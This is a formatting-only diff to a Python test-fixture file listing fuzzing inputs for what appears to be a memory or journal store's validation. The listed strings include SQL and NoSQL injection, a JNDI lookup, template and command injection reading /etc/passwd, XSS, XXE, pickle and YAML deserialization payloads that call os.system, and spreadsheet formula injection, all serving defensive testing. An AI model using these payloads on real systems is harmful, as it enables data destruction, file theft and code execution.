@@ -7,8 +7,23 @@ __all__ = ["LABELS", "METADATA", "NO_LABELS", "NO_METADATA", "NO_TEXTS", "TEXTS"
 _NAN, _INF = float("nan"), float("inf")
 
 TEXTS = (
-    *("' OR 1=1--", "'; DROP TABLE memories;--", 'x" OR ""="', "1); DELETE FROM journal; --", "%' OR '%'='", "\\'; --"),
-    *("$ne", '{"$gt": ""}', '{"$where": "sleep(1000)"}', "${jndi:ldap://x/a}", "{{7*7}}", "<%= 7*7 %>", "#{7*7}"),
+    *(
+        "' OR 1=1--",
+        "'; DROP TABLE memories;--",
+        'x" OR ""="',
+        "1); DELETE FROM journal; --",
+        "%' OR '%'='",
+        "\\'; --",
+    ),
+    *(
+        "$ne",
+        '{"$gt": ""}',
+        '{"$where": "sleep(1000)"}',
+        "${jndi:ldap://x/a}",
+        "{{7*7}}",
+        "<%= 7*7 %>",
+        "#{7*7}",
+    ),
     *(
         "{0.__class__}",
         "%s%s%s%n",
@@ -20,12 +35,53 @@ TEXTS = (
         "| cat /etc/passwd",
         "&& exit",
     ),
-    *("../../etc/passwd", "..\\..\\windows", "file:///etc/passwd", "C:\\CON", "/dev/zero", "~root", "\\\\host\\share"),
-    *("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", "<!--#exec cmd=id-->"),
-    *("<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'c'>]>", "]]>", "&lt;&gt;&amp;&#0;", "\\u0000", "\\x00", "\\ud800"),
-    *("__import__('os').system('id')", "cos\nsystem\n(S'id'\ntR.", "!!python/object/apply:os.system ['id']"),
-    *('{"lc": 2, "type": "constructor", "id": ["os", "system"]}', "gASVFAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOULg=="),
-    *("NaN", "Infinity", "-0", "1e309", "0x41", "null", "undefined", "true", "None", "[]", "{}", "''", '""'),
+    *(
+        "../../etc/passwd",
+        "..\\..\\windows",
+        "file:///etc/passwd",
+        "C:\\CON",
+        "/dev/zero",
+        "~root",
+        "\\\\host\\share",
+    ),
+    *(
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "javascript:alert(1)",
+        "<!--#exec cmd=id-->",
+    ),
+    *(
+        "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'c'>]>",
+        "]]>",
+        "&lt;&gt;&amp;&#0;",
+        "\\u0000",
+        "\\x00",
+        "\\ud800",
+    ),
+    *(
+        "__import__('os').system('id')",
+        "cos\nsystem\n(S'id'\ntR.",
+        "!!python/object/apply:os.system ['id']",
+    ),
+    *(
+        '{"lc": 2, "type": "constructor", "id": ["os", "system"]}',
+        "gASVFAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOULg==",
+    ),
+    *(
+        "NaN",
+        "Infinity",
+        "-0",
+        "1e309",
+        "0x41",
+        "null",
+        "undefined",
+        "true",
+        "None",
+        "[]",
+        "{}",
+        "''",
+        '""',
+    ),
     *(
         "\u202eevil\u202c",
         "a\u200bb",
@@ -36,7 +92,18 @@ TEXTS = (
         "ﷺ",
         "\U0001f468\u200d\U0001f469\u200d\U0001f467",
     ),
-    *("Z" + "\u0300" * 2_000, "\U0010ffff", "\ue000", "\ufffd", "\u0378", "١٢٣", "࿕", "a\u2028b", "a\u2029b", "a\x85b"),
+    *(
+        "Z" + "\u0300" * 2_000,
+        "\U0010ffff",
+        "\ue000",
+        "\ufffd",
+        "\u0378",
+        "١٢٣",
+        "࿕",
+        "a\u2028b",
+        "a\u2029b",
+        "a\x85b",
+    ),
     *(
         "\x1b[31mred\x1b[0m",
         "\x07bell",
@@ -47,8 +114,25 @@ TEXTS = (
         "To: a\nBcc: b",
         "a\x0cb\x0bc",
     ),
-    *("w" * 100_000, "a " * 40_000, "(" * 20_000, "\\" * 20_000, '"' * 20_000, "a,b;" * 10_000, "." * 50_000),
-    *("=cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd", "+1", "http://[::1]:99999/", "a@b@c", "::1", "0.0.0.0"),
+    *(
+        "w" * 100_000,
+        "a " * 40_000,
+        "(" * 20_000,
+        "\\" * 20_000,
+        '"' * 20_000,
+        "a,b;" * 10_000,
+        "." * 50_000,
+    ),
+    *(
+        "=cmd|' /C calc'!A0",
+        "@SUM(1+1)",
+        "-2+3+cmd",
+        "+1",
+        "http://[::1]:99999/",
+        "a@b@c",
+        "::1",
+        "0.0.0.0",
+    ),
 )
 NO_TEXTS = (
     "",
@@ -108,8 +192,20 @@ NO_LABELS = (
 )
 
 METADATA = (
-    *({"$where": "1"}, {"__proto__": {"x": 1}}, {"constructor": "x"}, {"namespace": "bob"}, {"": 1}, {" ": 1}),
-    *({"id": "x", "trust": 9, "state": "active"}, {"a": {"b": {"c": [1, [2, [3]]]}}}, {"x": 2**63}, {"x": -(2**70)}),
+    *(
+        {"$where": "1"},
+        {"__proto__": {"x": 1}},
+        {"constructor": "x"},
+        {"namespace": "bob"},
+        {"": 1},
+        {" ": 1},
+    ),
+    *(
+        {"id": "x", "trust": 9, "state": "active"},
+        {"a": {"b": {"c": [1, [2, [3]]]}}},
+        {"x": 2**63},
+        {"x": -(2**70)},
+    ),
     *(
         {"x": 1e308},
         {"x": 5e-324},
@@ -129,7 +225,16 @@ METADATA = (
     ),
 )
 NO_METADATA = (
-    *({"x": _NAN}, {"x": _INF}, {"x": -_INF}, {"x": {1, 2}}, {"x": b"x"}, {"x": object()}, {"x": "\x00"}, {"\x00": 1}),
+    *(
+        {"x": _NAN},
+        {"x": _INF},
+        {"x": -_INF},
+        {"x": {1, 2}},
+        {"x": b"x"},
+        {"x": object()},
+        {"x": "\x00"},
+        {"\x00": 1},
+    ),
     *(
         {"x": "\ud800"},
         {"x": 1 + 2j},
